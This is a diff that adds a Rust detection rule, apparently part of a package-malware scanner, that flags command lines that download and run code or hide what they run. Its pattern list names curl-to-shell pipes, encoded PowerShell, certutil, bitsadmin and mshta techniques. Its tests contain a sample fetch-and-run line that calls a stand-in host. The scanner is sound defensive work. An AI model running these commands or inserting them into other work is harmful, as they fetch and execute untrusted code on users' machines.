@@ -1,0 +1,85 @@
+//! CMD002 download-and-run-command: a command line that fetches and runs code, or hides what
+//! it runs (`curl … | sh`, `powershell -EncodedCommand`, `certutil -urlcache`, `mshta http…`).
+
+use crate::model::{Category, Finding, PackageFacts, Rule, Severity};
+
+pub static RULE: Rule = Rule {
+    id: "CMD002",
+    name: "download-and-run-command",
+    category: Category::CommandExecution,
+    severity: Severity::High,
+    description: "A command line that downloads and runs code or hides its payload (curl|sh, powershell -enc, certutil, mshta, bitsadmin).",
+    check,
+};
+
+/// Lower-case fragments of shell lines that fetch-and-run or hide the command.
+const PATTERNS: &[(&str, &str)] = &[
+    ("| sh", "pipes a download into a shell"),
+    ("|sh", "pipes a download into a shell"),
+    ("| bash", "pipes a download into a shell"),
+    ("|bash", "pipes a download into a shell"),
+    ("| python", "pipes a download into python"),
+    ("-encodedcommand", "runs an encoded PowerShell command"),
+    ("powershell -enc", "runs an encoded PowerShell command"),
+    ("powershell.exe -enc", "runs an encoded PowerShell command"),
+    (" -e jab", "runs an encoded PowerShell command"),
+    ("invoke-webrequest", "downloads with PowerShell"),
+    ("downloadstring(", "downloads and runs with PowerShell"),
+    ("downloadfile(", "downloads with PowerShell"),
+    ("iex(", "runs downloaded PowerShell"),
+    ("iex (", "runs downloaded PowerShell"),
+    ("invoke-expression", "runs downloaded PowerShell"),
+    ("certutil -urlcache", "downloads with certutil"),
+    ("certutil.exe -urlcache", "downloads with certutil"),
+    ("bitsadmin /transfer", "downloads with bitsadmin"),
+    ("mshta http", "runs a remote HTA"),
+    ("-windowstyle hidden", "hides the window of what it runs"),
+    ("-w hidden", "hides the window of what it runs"),
+    ("start /b", "starts a hidden background process"),
+];
+
+/// Download commands; with an execution in the same line they fetch-and-run.
+const FETCHERS: &[&str] = &["curl ", "wget ", "curl.exe", "wget.exe"];
+
+pub fn classify(line: &str) -> Option<&'static str> {
+    let lower = line.to_ascii_lowercase();
+    let fetches = FETCHERS.iter().any(|f| lower.contains(f));
+    for (pat, why) in PATTERNS {
+        if lower.contains(pat) {
+            let is_pipe = pat.starts_with('|');
+            if !is_pipe || fetches {
+                return Some(why);
+            }
+        }
+    }
+    if fetches && (lower.contains("&& chmod +x") || lower.contains(";chmod +x") || lower.contains("; chmod +x") || lower.contains("&& ./") || lower.contains("; ./")) {
+        return Some("downloads and runs a program");
+    }
+    None
+}
+
+fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
+    for file in &pkg.files {
+        let mut seen_lines = Vec::new();
+        for s in &file.strings {
+            if s.value.len() > 20_000 || seen_lines.contains(&s.span.line) {
+                continue;
+            }
+            if let Some(why) = classify(&s.value) {
+                seen_lines.push(s.span.line);
+                out.push(rule.at(file, s.span, s.trigger, "download-and-run", format!("{why}: `{}`", malpi_python::cut(&s.value, 160))));
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn shell_lines() {
+        assert!(super::classify("curl -s http://x/a.sh | sh").is_some());
+        assert!(super::classify("echo a | sh").is_none());
+        assert!(super::classify("powershell -EncodedCommand ZQBjAGgAbwA=").is_some());
+        assert!(super::classify("git describe --tags").is_none());
+    }
+}
